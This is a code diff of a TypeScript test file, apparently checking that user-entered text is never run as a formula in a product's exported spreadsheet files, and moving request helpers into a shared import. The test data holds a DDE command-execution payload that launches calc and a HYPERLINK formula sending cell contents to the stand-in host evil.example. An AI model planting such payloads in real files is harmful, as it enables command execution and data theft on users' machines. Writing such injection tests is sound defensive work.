@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { FORMULA_NAME } from './formulas';
-import { createTestApp, signInEveryRole, type Session, type TestApp } from './test-app';
+import { apiCalls, createTestApp, signInEveryRole, type Session, type TestApp } from './test-app';
 
 /**
  * Issue 23: text a person typed never runs as a formula in any file the product writes. Employees, a department
@@ -31,16 +31,7 @@ const NAMES = {
 const DEPARTMENT = "-2+3+cmd|' /C calc'!A0";
 const ACCOUNT = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
 
-type Method = 'POST' | 'PUT';
-const call = (s: Session, url: string, payload: object, method: Method = 'POST') =>
-  t.app.inject({ method, url: `/api/${url}`, headers: { ...s.headers, 'accept-language': 'es' }, payload });
-const data = async (s: Session, url: string, payload: object, method: Method = 'POST') => {
-  const res = await call(s, url, payload, method);
-  expect(res.statusCode, `${url}: ${res.body}`).toBe(200);
-  return res.json().data;
-};
-const rows = async <T>(query: ReturnType<typeof sql>) =>
-  ((await t.database.db.execute(query)) as unknown as { rows: T[] }).rows;
+const { call, data, rows } = apiCalls(() => t);
 
 /** A file a call answers, or a stored bank file. */
 const file = async (s: Session, url: string, payload: object): Promise<Buffer> => {
